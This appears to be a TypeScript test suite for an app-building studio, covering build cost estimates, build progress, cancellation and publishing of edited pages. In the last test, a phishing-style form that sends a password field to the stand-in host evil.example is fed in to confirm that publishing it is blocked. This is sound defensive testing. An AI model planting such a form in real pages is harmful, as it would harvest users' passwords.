import { expect, test } from 'bun:test'

import { listActingAgents } from '../../apps/owners/owned-agents.ts'
import { toCredits } from '../../kernel/money.ts'
import { agentOwner } from '../../money/ledger/accounts.ts'
import { balanceOf as balanceOfOwner } from '../../money/ledger/ledger.ts'
import { closeWithoutErrors, startForEachTest } from '../../testing/fixtures/closed-servers.ts'
import {
  alertText,
  FormBrowser,
  hiddenFields,
  signUp,
} from '../../testing/fixtures/form-browser.ts'
import { getPerson } from '../../testing/fixtures/people.ts'
import { shownPage } from '../../testing/fixtures/shown-page.ts'
import type { TestServer } from '../../testing/fixtures/test-server.ts'

const start = startForEachTest(closeWithoutErrors)

async function open(settings = {}) {
  const t = await start({ BUILDER_BROWSER: 'off', ...settings })
  return { t, bea: await signUp(t, 'bea') }
}

/** Starts a build on /new and returns the path of its studio. */
async function startBuild(bea: FormBrowser, prompt: string, kind = 'game'): Promise<string> {
  const form = hiddenFields(await bea.read('/new'), '/new/prompt')
  const started = await bea.send('/new/prompt', { ...form, prompt, kind })
  return started.headers.get('location') ?? ''
}

/** Waits until the event stream of a build ends, and returns its states. */
async function watch(t: TestServer, bea: FormBrowser, path: string): Promise<string[]> {
  const cookie = `berth=${bea.cookie()}`
  const events = await t.request('GET', `${path}/events`, { headers: { cookie } })
  const jobs = String(events.body).matchAll(/^data: (.*)$/gm)
  return [...jobs].map(([, data = '']) => String(JSON.parse(data).state))
}

async function balanceOf(t: TestServer, name: string) {
  const [agent] = await listActingAgents(t.ctx, await getPerson(t, name))
  return balanceOfOwner(t.ctx, agentOwner(agent?.id ?? ''))
}

test('shows first what builds usually cost, measured from the last ones', async () => {
  const { t, bea } = await open()
  await t.ctx.jobs.start()
  expect((await bea.show('/new')).text).toMatch(/At most \d+ credits\. You pay only/)
  const charges: number[] = []
  for (const prompt of ['Snake in neon', 'A quiz about the planets', 'A packing list']) {
    const before = (await balanceOf(t, 'bea')).available
    const path = await startBuild(bea, prompt)
    expect((await watch(t, bea, path)).at(-1)).toBe('done')
    charges.push(toCredits(before - (await balanceOf(t, 'bea')).available))
  }
  const [, usual = 0] = charges.toSorted((a, b) => a - b)
  for (const page of [await bea.show('/new'), await new FormBrowser(t).show('/')]) {
    expect(page.text).toMatch(/About [\d.]+ credits?, at most \d+\. You pay only/)
    const shown = Number(/About ([\d.]+) credit/.exec(page.text)?.[1])
    expect(Math.abs(shown - usual)).toBeLessThan(0.1)
  }
  expect((await bea.show('/new')).names('button')).toContainEqual(
    expect.stringMatching(/^Build for about [\d.]+ credits?$/),
  )
})

test('shows the steps of a build, its result, and a change by another sentence', async () => {
  const { t, bea } = await open()
  const path = await startBuild(bea, 'Snake <in> neon')
  const running = await bea.read(path)
  expect(shownPage(running).allByText('Snake <in> neon')).not.toEqual([])
  // A script follows the events; without scripts, the page reloads.
  expect(running).toMatch(/<build-steps\s+class="build-steps"\s+data-events="[^"]+\/build\/events"/)
  expect(running).toContain('<noscript><meta http-equiv="refresh" content="3" /></noscript>')
  expect(shownPage(running).text).not.toContain('Change it')
  await t.ctx.jobs.start()
  expect((await watch(t, bea, path)).at(-1)).toBe('done')
  const built = await bea.open(path)
  const page = String(built.body)
  // A script opens the app in the page.
  expect(built.headers.get('content-security-policy')).toMatch(/frame-src [\w.:]+\/frame /)
  expect(page).toMatch(/data-at="\/a\/[\w-]{12}\/versions\/1"/)
  expect(page).not.toContain('http-equiv')

  t.clock.advance(1_000)
  const form = hiddenFields(page, path.replace('build', 'change'))
  const change = { ...form, prompt: 'make it purple and call it Vine' }
  const started = await bea.send(path.replace('build', 'change'), change)
  expect([started.status, started.headers.get('location')]).toEqual([303, path])
  expect((await watch(t, bea, path)).at(-1)).toBe('done')
  const changed = await bea.read(path)
  expect(shownPage(changed).text).toMatch(
    /Snake <in> neon.*make it purple and call it Vine.*Version 2/,
  )
  expect(changed).toMatch(/data-at="\/a\/[\w-]{12}\/versions\/2"/)

  await bea.send(path.replace('build', 'explore'), { ...form, store: 'yes' })
  expect(await bea.read(path.replace('build', 'listing'))).toContain('Saved.')
})

test('opens the prompt of a failed first build again, and charges nothing', async () => {
  const { t, bea } = await open()
  const before = await balanceOf(t, 'bea')
  const path = await startBuild(bea, 'Snake in neon')
  const job = hiddenFields(await bea.read(path), path.replace('build', 'cancel'))
  expect((await bea.send(path.replace('build', 'cancel'), job)).status).toBe(303)
  const gone = await bea.open(path)
  const location = gone.headers.get('location') ?? ''
  expect([gone.status, location]).toEqual([303, expect.stringMatching(/^\/new\?build=[\w-]{12}$/)])
  expect(shownPage(await bea.read(location)).values('textbox')).toContain('Snake in neon')
  expect(await balanceOf(t, 'bea')).toEqual(before)
  // The page that shows the build connects after the build has ended.
  expect((await watch(t, bea, path)).at(-1)).toBe('cancelled')
  const carl = await signUp(t, 'carl')
  expect((await carl.open(`${path}/events`)).status).toBe(404)
  expect(shownPage(await carl.read(location)).values('textbox')).not.toContain('Snake in neon')
  expect((await carl.open(path)).status).toBe(404)
  expect((await new FormBrowser(t).open(`${path}/events`)).status).toBe(303)
})

test('publishes an edited page once and keeps the text after an error', async () => {
  const { t, bea } = await open()
  const form = hiddenFields(await bea.read('/new'), '/new/page')
  const html = '<!doctype html>\n<title>Tides</title>\n<h1>Tides & "waves"</h1>'
  const made = await bea.send('/new/page', { ...form, html, kind: 'app', title: '' })
  const id = (made.headers.get('location') ?? '').split('/')[2] ?? ''
  const code = `/studio/${id}/code`
  const page = await bea.read(code)
  expect(shownPage(page).values('textbox')).toContain(html)
  const fields = hiddenFields(page, `/studio/${id}/page`)
  const edited = { ...fields, html: html.replace('waves', 'ebb'), note: 'Ebb' }
  for (let at = 0; at < 2; at += 1) {
    await bea.send(`/studio/${id}/page`, edited)
    const done = await bea.read(code)
    expect(done).toContain('Published.')
    expect(done).toContain('Publish version 3')
  }
  const before = await t.snapshot()
  const bad = '<form action="https://evil.example"><input type=password></form>'
  const blocked = await bea.send(`/studio/${id}/page`, {
    ...fields,
    ref: 'abcdefghijkl',
    html: bad,
  })
  expect([blocked.status, alertText(blocked)]).toEqual([422, expect.stringContaining('blocked')])
  expect(shownPage(blocked.body).values('textbox')).toContain(bad)
  const empty = await bea.send(`/studio/${id}/page`, { ...fields, ref: 'abcdefghijkm', html: ' ' })
  expect([empty.status, alertText(empty)]).toEqual([400, '“Page” must not be empty.'])
  const none = await bea.send(`/studio/${id}/change`, { ...fields, prompt: ' ' })
  expect([none.status, alertText(none)]).toEqual([400, '“Prompt” needs 1 to 8000 characters.'])
  expect(await t.snapshot()).toEqual(before)
})
